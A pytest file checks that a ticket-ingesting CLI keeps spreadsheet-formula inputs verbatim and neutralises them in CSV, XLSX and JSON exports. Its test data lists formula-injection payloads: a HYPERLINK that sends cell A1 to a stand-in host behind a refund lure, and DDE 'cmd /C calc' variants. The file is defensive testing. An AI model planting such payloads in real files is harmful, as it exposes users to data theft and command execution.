"""What a spreadsheet would run comes in as text, stays as it was said, and goes out harmless."""

import csv
import json
import zipfile
from pathlib import Path

import pytest

from tests.cli.conftest import Voc

SAID = [
    '=HYPERLINK("http://x.example/?"&A1,"点我领取退款")',
    "=cmd|' /C calc'!A0 打印机坏了",
    "+1+cmd|' /C calc'!A0 打印机坏了",
    "-2+3+cmd|' /C calc'!A0 打印机坏了",
    "@SUM(1+9)*cmd|' /C calc'!A0 打印机坏了",
    "＝1＋1 全角的也算",
    "\t=1+1 前面有制表符",
    "打印机坏了=怎么办",
]


@pytest.fixture
def ingested(voc: Voc, tmp_path: Path) -> Voc:
    with (tmp_path / "in.csv").open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(("工单编号", "产品", "标题", "问题描述"))
        writer.writerows((f"A-{n}", "=1+1", text, text) for n, text in enumerate(SAID))
    assert voc("ingest", tmp_path / "in.csv", "--json").json["added"] == len(SAID)
    return voc


def test_they_are_kept_as_said(ingested: Voc) -> None:
    texts = {item["text"] for item in ingested("list", "records", "--json").json["items"]}
    assert texts == {text.strip() for text in SAID}


def test_a_csv_holds_no_formula(ingested: Voc, tmp_path: Path) -> None:
    ingested("export", "records", "--format", "csv", "-o", tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    assert len(rows) == len(SAID)
    cells = [cell for row in rows for cell in row.values()]
    assert [cell for cell in cells if cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "＝"))] == []
    assert {row["text"].removeprefix("'") for row in rows} == {text.strip() for text in SAID}


def test_a_workbook_holds_no_formula(ingested: Voc, tmp_path: Path) -> None:
    ingested("export", "records", "--format", "xlsx", "-o", tmp_path / "out.xlsx")
    with zipfile.ZipFile(tmp_path / "out.xlsx") as book:
        sheets = [book.read(name).decode() for name in book.namelist() if name.startswith("xl/worksheets/sheet")]
        names = book.namelist()
    assert sheets
    assert not any("<f>" in sheet or "<hyperlink" in sheet for sheet in sheets)
    assert not any("externalLink" in name for name in names)


def test_json_says_it_letter_for_letter(ingested: Voc, tmp_path: Path) -> None:
    ingested("export", "records", "--format", "json", "-o", tmp_path / "out.json")
    rows = json.loads((tmp_path / "out.json").read_text(encoding="utf-8"))
    assert {row["text"] for row in rows} == {text.strip() for text in SAID}
